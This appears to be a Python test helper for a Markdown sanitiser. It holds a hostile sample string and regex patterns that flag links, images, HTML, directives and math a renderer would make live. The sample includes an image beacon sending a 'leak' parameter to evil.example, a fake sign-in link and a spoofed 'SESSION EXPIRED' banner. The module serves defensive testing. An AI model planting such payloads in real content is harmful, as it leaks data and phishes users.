"""Hostile corpus text, and a check that Markdown holds nothing a renderer would make live (UI and export tests)."""

from __future__ import annotations

import re

from core.domain.safe_markdown import WORD_JOINER

HOSTILE = (
    "Owners above 25% ![x](http://evil.example/beacon?leak=1) must be named "
    "[sign in](http://evil.example/login) :red[SESSION EXPIRED] :material/warning: "
    "<img src=http://evil.example/i.png> <http://evil.example/auto> see www.evil.example or "
    "https://evil.example/raw or mail x@evil.example $\\href{http://evil.example}{y}$ [ref]: http://evil.example"
)

_LIVE_SYNTAX = re.compile(
    r"(?<!\\)\]\(|(?<!\\)\]\[|(?<!\\)<(?=[A-Za-z/!?])|(?<!\\):[a-z]+(?:-[a-z]+)?\[|(?<!\\):material/|(?<!\\)\$"
    r"|(?<!\\)\]:|(?<!\\)`"
)
"""Images and links need `](` (inline), `][` (reference) or a `]:` definition; HTML and autolinks open with `<` and
a letter, `/`, `!` or `?` (CommonMark); directives, material icons, math and code have their own openers."""
# what the GFM autolink transform (run on the text after escapes are resolved) turns into links
_LIVE_TEXT = re.compile(r"(?i)https?://|www(?=\.)|[-.\w+]+@[-\w]+(?:\.[-\w]+)+")


def rendered_text(markdown: str) -> str:
    """The text a renderer's transforms see: backslash escapes resolved (the invisible word joiners stay)."""
    return re.sub(r"\\(.)", r"\1", markdown)


def unescape(markdown: str) -> str:
    """The text a reader sees."""
    return rendered_text(markdown).replace(WORD_JOINER, "")


def live_markup(markdown: str) -> list[str]:
    """Every piece of `markdown` a renderer would turn into an image, link, autolink, HTML, directive or math."""
    return _LIVE_SYNTAX.findall(markdown) + _LIVE_TEXT.findall(rendered_text(markdown))
